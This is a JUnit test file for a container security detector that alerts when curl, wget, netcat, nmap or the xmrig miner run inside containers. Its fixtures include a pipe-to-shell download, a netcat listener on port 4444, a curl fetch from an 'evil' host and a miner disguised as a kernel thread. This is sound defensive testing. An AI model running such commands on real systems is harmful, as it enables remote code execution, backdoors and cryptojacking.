package dev.vigil.detect;

import static org.assertj.core.api.Assertions.assertThat;

import dev.vigil.alert.Alert;
import dev.vigil.alert.AlertFactory;
import dev.vigil.alert.Priority;
import dev.vigil.event.ContainerRef;
import dev.vigil.event.EventKind;
import dev.vigil.event.ExecOrigin;
import dev.vigil.event.ProcessExec;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class SuspiciousProcessDetectorTest {

  private static final Instant T0 = Instant.parse("2026-01-02T03:04:05Z");
  private static final ContainerRef APP = new ContainerRef(
      "aaaaaaaaaaaa1111111111111111111111111111111111111111111111111111", "app", "alpine", "3.20", "");
  private static final ContainerRef OTHER = new ContainerRef(
      "bbbbbbbbbbbb2222222222222222222222222222222222222222222222222222", "other", "alpine", "3.20", "");

  private SuspiciousProcessDetector detector;
  private List<Alert> alerts;

  @BeforeEach
  void setUp() {
    detector = new SuspiciousProcessDetector(new AlertFactory("h"));
    alerts = new ArrayList<>();
  }

  private static ProcessExec proc(Instant t, ContainerRef c, String name, String exe, ExecOrigin origin,
      String... args) {
    return new ProcessExec(t, c, "docker.top", 100, 1, name, exe, List.of(args), 0, "root", "", origin, "");
  }

  private static ProcessExec proc(String name, String exe, String... args) {
    return proc(T0, APP, name, exe, ExecOrigin.CONTAINER, args);
  }

  private void feed(ProcessExec p) {
    detector.onEvent(p, alerts::add);
  }

  @Test
  void describesItself() {
    assertThat(detector.name()).isEqualTo("suspicious-process");
    assertThat(detector.kinds()).containsExactly(EventKind.PROCESS_EXEC);
  }

  @ParameterizedTest
  @ValueSource(strings = {"wget", "curl"})
  void remoteCopyTool_byProcessName_alertsNotice(String tool) {
    feed(proc(tool, "", tool, "http://example.com/x"));
    assertThat(alerts).singleElement().satisfies(a -> {
      assertThat(a.rule()).isEqualTo("Remote file copy tool launched in container");
      assertThat(a.priority()).isEqualTo(Priority.NOTICE);
      assertThat(a.outputFields()).containsEntry("vigil.tool", tool);
      assertThat(a.tags()).contains("T1105");
    });
  }

  @Test
  void netcat_byProcessName_alertsNetworkTool() {
    feed(proc("nc", "", "nc", "-lvp", "4444"));
    assertThat(alerts).singleElement().satisfies(a -> {
      assertThat(a.rule()).isEqualTo("Suspicious network tool launched in container");
      assertThat(a.priority()).isEqualTo(Priority.NOTICE);
      assertThat(a.outputFields()).containsEntry("vigil.tool", "nc");
    });
  }

  @Test
  void nmap_isScannerWithWarningPriority() {
    feed(proc("nmap", "/usr/bin/nmap", "nmap", "-sS", "10.0.0.0/24"));
    assertThat(alerts).singleElement().satisfies(a -> {
      assertThat(a.rule()).isEqualTo("Port scanner launched in container");
      assertThat(a.priority()).isEqualTo(Priority.WARNING);
      assertThat(a.tags()).contains("T1046");
      assertThat(a.source()).isEqualTo("syscall");
    });
  }

  @Test
  void xmrig_isMinerWithCriticalPriority() {
    feed(proc("xmrig", "/opt/xmrig", "./xmrig", "-o", "pool:3333"));
    assertThat(alerts).singleElement().satisfies(a -> {
      assertThat(a.rule()).isEqualTo("Crypto miner launched in container");
      assertThat(a.priority()).isEqualTo(Priority.CRITICAL);
      assertThat(a.tags()).contains("T1496");
    });
  }

  @Test
  void match_byArgv0BaseName_whenNameDiffers() {
    feed(proc("kworker", "", "/tmp/.hidden/xmrig", "--donate-level", "0"));
    assertThat(alerts).singleElement().satisfies(a -> {
      assertThat(a.priority()).isEqualTo(Priority.CRITICAL);
      assertThat(a.outputFields()).containsEntry("vigil.tool", "xmrig");
    });
  }

  @Test
  void match_byExePathBaseName_whenNameAndArgv0Differ() {
    feed(proc("systemd-helper", "/usr/local/bin/nmap", "[kthreadd]", "-p-"));
    assertThat(alerts).singleElement().satisfies(a -> {
      assertThat(a.rule()).isEqualTo("Port scanner launched in container");
      assertThat(a.outputFields()).containsEntry("vigil.tool", "nmap");
    });
  }

  @Test
  void match_withNoArgsAndNoExe_usesName() {
    feed(proc("wget", ""));
    assertThat(alerts).hasSize(1);
  }

  @Test
  void commandLineMentioningToolFile_isQuiet() {
    feed(proc("cat", "/bin/cat", "cat", "/tmp/curl-notes.txt"));
    assertThat(alerts).isEmpty();
  }

  @Test
  void shellEchoingToolName_isQuiet() {
    feed(proc("sh", "/bin/sh", "sh", "-c", "echo wget"));
    feed(proc("sh", "/bin/sh", "sh", "-c", "curl http://x | sh"));
    assertThat(alerts).isEmpty();
  }

  @Test
  void toolNameAsPathArgument_isQuiet() {
    feed(proc("ls", "/bin/ls", "ls", "/usr/bin/nmap", "/usr/bin/xmrig"));
    assertThat(alerts).isEmpty();
  }

  @ParameterizedTest
  @ValueSource(strings = {"curl-config", "libcurl", "wget2x", "ncat-helper", "xmrigger", "nmapper", "n"})
  void toolNameAsSubstringOfBaseName_isQuiet(String name) {
    feed(proc(name, "/usr/bin/" + name, name));
    assertThat(alerts).isEmpty();
  }

  @Test
  void ordinaryProcess_isQuiet() {
    feed(proc("nginx", "/usr/sbin/nginx", "nginx", "-g", "daemon off;"));
    assertThat(alerts).isEmpty();
  }

  @Test
  void healthcheckOrigin_isQuiet() {
    feed(proc(T0, APP, "curl", "/usr/bin/curl", ExecOrigin.HEALTHCHECK, "curl", "-f", "http://localhost/"));
    assertThat(alerts).isEmpty();
  }

  @Test
  void dockerExecOrigin_alertsAndShowsOrigin() {
    feed(proc(T0, APP, "curl", "/usr/bin/curl", ExecOrigin.DOCKER_EXEC, "curl", "-f", "http://localhost/"));
    assertThat(alerts).singleElement().satisfies(a ->
        assertThat(a.output()).contains("origin=docker_exec"));
  }

  @Test
  void hostProcess_isQuiet() {
    feed(proc(T0, ContainerRef.HOST, "nmap", "/usr/bin/nmap", ExecOrigin.UNKNOWN, "nmap", "localhost"));
    feed(proc(T0, ContainerRef.unresolved("host"), "curl", "", ExecOrigin.UNKNOWN, "curl"));
    assertThat(alerts).isEmpty();
  }

  @Test
  void alertOutput_containsToolCommandAndContainer() {
    feed(proc("curl", "/usr/bin/curl", "curl", "-s", "http://evil/x.sh"));
    assertThat(alerts).singleElement().satisfies(a -> assertThat(a.output()).isEqualTo(
        "Remote file copy tool launched in container (tool=curl user=root uid=0 command=curl -s http://evil/x.sh"
            + " pid=100 origin=container container_id=aaaaaaaaaaaa container_name=app image=alpine:3.20)"));
  }

  @Test
  void sameCommandSameContainerWithin10s_alertsOnce() {
    feed(proc(T0, APP, "curl", "", ExecOrigin.CONTAINER, "curl", "http://x"));
    feed(proc(T0, APP, "curl", "", ExecOrigin.CONTAINER, "curl", "http://x"));
    feed(proc(T0.plus(Duration.ofMillis(9_999)), APP, "curl", "", ExecOrigin.CONTAINER, "curl", "http://x"));
    assertThat(alerts).hasSize(1);
  }

  @Test
  void sameCommandSameContainerAfterMoreThan10s_alertsAgain() {
    feed(proc(T0, APP, "curl", "", ExecOrigin.CONTAINER, "curl", "http://x"));
    feed(proc(T0.plus(Duration.ofMillis(10_001)), APP, "curl", "", ExecOrigin.CONTAINER, "curl", "http://x"));
    assertThat(alerts).hasSize(2);
    assertThat(alerts.get(1).time()).isEqualTo(T0.plus(Duration.ofMillis(10_001)));
  }

  @Test
  void repeatWindow_usesEventTimeNotWallClock() {
    // Two events a minute apart in event time are both alerted even though they are fed instantly.
    feed(proc(T0, APP, "wget", "", ExecOrigin.CONTAINER, "wget", "x"));
    feed(proc(T0.plusSeconds(60), APP, "wget", "", ExecOrigin.CONTAINER, "wget", "x"));
    assertThat(alerts).hasSize(2);
  }

  @Test
  void repeatWindow_isMeasuredFromLastAlert_soSuppressedRepeatsDoNotExtendIt() {
    // The same command every 6 s: alerts at 0 s and again once more than 10 s have passed since that alert
    // (at 12 s); the suppressed sighting at 6 s must not push the window forward indefinitely.
    for (int s = 0; s <= 24; s += 6) {
      feed(proc(T0.plusSeconds(s), APP, "curl", "", ExecOrigin.CONTAINER, "curl", "http://x"));
    }
    assertThat(alerts).extracting(Alert::time)
        .containsExactly(T0, T0.plusSeconds(12), T0.plusSeconds(24));
  }

  @Test
  void sameCommandInOtherContainer_alertsSeparately() {
    feed(proc(T0, APP, "curl", "", ExecOrigin.CONTAINER, "curl", "http://x"));
    feed(proc(T0, OTHER, "curl", "", ExecOrigin.CONTAINER, "curl", "http://x"));
    assertThat(alerts).extracting(a -> a.outputFields().get("container.id"))
        .containsExactly("aaaaaaaaaaaa", "bbbbbbbbbbbb");
  }

  @Test
  void differentCommandSameContainer_alertsSeparately() {
    feed(proc(T0, APP, "curl", "", ExecOrigin.CONTAINER, "curl", "http://x"));
    feed(proc(T0, APP, "curl", "", ExecOrigin.CONTAINER, "curl", "http://y"));
    assertThat(alerts).hasSize(2);
  }

  @Test
  void quietEvents_doNotStartRepeatWindow() {
    feed(proc(T0, APP, "curl", "", ExecOrigin.HEALTHCHECK, "curl", "http://x"));
    feed(proc(T0.plusSeconds(1), APP, "curl", "", ExecOrigin.CONTAINER, "curl", "http://x"));
    assertThat(alerts).hasSize(1);
  }
}
